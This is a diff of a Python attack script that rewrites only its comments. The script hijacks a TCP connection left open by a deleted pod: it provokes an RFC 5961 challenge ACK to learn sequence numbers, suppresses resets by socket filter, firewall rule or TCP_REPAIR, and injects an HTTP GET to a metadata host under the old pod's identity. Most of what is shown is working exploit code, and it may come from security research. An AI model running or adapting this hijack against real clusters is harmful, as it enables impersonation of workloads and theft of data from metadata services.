@@ -1,12 +1,12 @@
-# A thief in a new pod that was given the address of one that is gone: it speaks on a connection which that one left open.
+# An attack from a new pod that has the address of a deleted one: it sends a request on a connection that the old pod left open.
 #
-# The server's end of the connection is still established. A SYN with the same ports makes it tell the sequence numbers it
-# expects, in what RFC 5961 calls a challenge ACK; data that carries those numbers is then as good as the old pod's own.
+# The server's end of the connection is still established. A SYN with the same ports makes the server answer with a challenge ACK
+# (RFC 5961), which contains the sequence numbers that it expects. It then accepts data with these numbers as the old pod's.
 #
-# Arguments: own address, port of the old connection, path to ask for, and how the thief keeps its own kernel from answering the
-# server with a reset: "filter" (a socket that connects, and a filter on it that hears nothing), "drop" (no socket at all, and a
-# firewall that lets no reset out) or "repair" (the same, then a socket put into the established state with the server's numbers:
-# to every look it is the other end).
+# Arguments: the pod's address, the port of the old connection, the path to request, and how the thief keeps its own kernel from
+# answering the server with a reset: "filter" (a connecting socket with a filter that drops everything), "drop" (no socket, and a
+# firewall rule that drops resets) or "repair" (the same, then a socket that is put into the established state with the server's
+# sequence numbers, so that it looks like the client's end of the connection).
 import ctypes
 import re
 import socket
@@ -47,7 +47,7 @@ def checksum(data):
 def frame(flags, seq, ack, data=b""):
     ends = socket.inet_pton(FAMILY, address) + socket.inet_pton(FAMILY, METADATA)
     tcp = struct.pack("!HHIIBBHHH", port, 80, seq, ack, 0x50, flags, 64240, 0, 0) + data
-    # The pseudo headers of the two families differ in zeroes only, which change no sum.
+    # The pseudo headers of the two families differ only in zeros, which do not change the checksum.
     tcp = tcp[:16] + checksum(ends + struct.pack("!HH", 6, len(tcp)) + tcp) + tcp[18:]
     if V6:
         ip = struct.pack("!IHBB", 6 << 28, len(tcp), 6, 64) + ends
@@ -58,7 +58,7 @@ def frame(flags, seq, ack, data=b""):
 
 
 def segment(packet):
-    """The TCP segment in a frame; nothing where there is none."""
+    """The TCP segment in a frame; empty if there is none."""
     ip = packet[14:]
     if V6:
         return ip[40:40 + int.from_bytes(ip[4:6], "big")] if ip[6] == 6 else b""
@@ -72,7 +72,7 @@ def whole(answer):
 
 
 def restored(seq, ack):
-    """A socket that goes on where the old pod's one was."""
+    """A socket that continues the old pod's connection."""
     repair, queue, queue_seq, window = 19, 20, 21, 29
     other = socket.socket(FAMILY)
     other.setsockopt(socket.IPPROTO_TCP, repair, 1)
@@ -82,7 +82,7 @@ def restored(seq, ack):
         other.setsockopt(socket.IPPROTO_TCP, queue_seq, struct.pack("I", number))
     other.connect((METADATA, 80))
     other.setsockopt(socket.IPPROTO_TCP, window, struct.pack("5I", seq, 65535, 65535, 65535, seq))
-    # Off again, without a probe that would tell the server.
+    # Ends repair mode without the window probe that the server would notice.
     other.setsockopt(socket.IPPROTO_TCP, repair, -1)
     return other
 
@@ -119,7 +119,7 @@ while time.monotonic() < end:
         break
     if not injected and flags & ACK:
         if flags & SYN:
-            print("FRESH: the old connection is gone, this would be a new one")
+            print("FRESH: the old connection is gone, the server has opened a new one")
             break
         host = f"[{METADATA}]" if V6 else METADATA
         request = f"GET {line} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()
